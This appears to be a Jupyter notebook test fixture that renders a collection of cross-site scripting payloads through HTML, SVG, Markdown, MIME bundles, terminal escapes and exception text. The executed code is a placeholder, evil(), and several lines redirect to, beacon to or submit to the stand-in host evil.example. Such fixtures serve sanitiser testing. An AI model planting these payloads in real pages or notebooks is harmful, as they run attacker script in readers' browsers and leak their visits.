# notebook: 04-cost
# Shows HTML, SVG, JavaScript and pictures that run code in the browser of who reads them.
from IPython.display import HTML, SVG, Javascript, Markdown, display

MARK = "evil()"


class Bundle:
    def __init__(self, mime, content):
        self.bundle = {mime: content}

    def _repr_mimebundle_(self, include=None, exclude=None):
        return self.bundle


display(HTML(f"<script>{MARK}</script><img src=x onerror={MARK}><svg onload={MARK}></svg>"))
display(HTML(f"<a href='javascript:{MARK}'>x</a><iframe srcdoc='<script>{MARK}</script>'></iframe>"))
display(HTML("<style>*{display:none}</style><meta http-equiv=refresh content='0;url=//evil.example'>"))
display(HTML("<img src='https://evil.example/seen.png'><link rel=stylesheet href=//evil.example>"))
display(HTML(f"<form action=//evil.example><button formaction=javascript:{MARK}>Log in</button>"))
display(HTML(f"<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror={MARK}>'>"))
display(HTML(f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}'><script>{MARK}</script></svg>"))
display(Javascript(MARK), Markdown(f"<script>{MARK}</script>[x](javascript:{MARK})"))
for mime in ("image/png", "image/jpeg", "image/svg+xml", "text/markdown", "text/latex"):
    display(Bundle(mime, f'"><script>{MARK}</script>'))
    display(Bundle(mime, f'AAAA" onerror="{MARK}" x="'))
display(Bundle("application/vnd.jupyter.widget-view+json", {"model_id": f"</script><script>{MARK}"}))
print(f"<script>{MARK}</script> \x1b]8;;javascript:{MARK}\x07link\x1b]8;;\x07 \x1b[31m<b onclick={MARK}>")
raise type(f"<img src=x onerror={MARK}>", (Exception,), {})(f"</pre><script>{MARK}</script>")
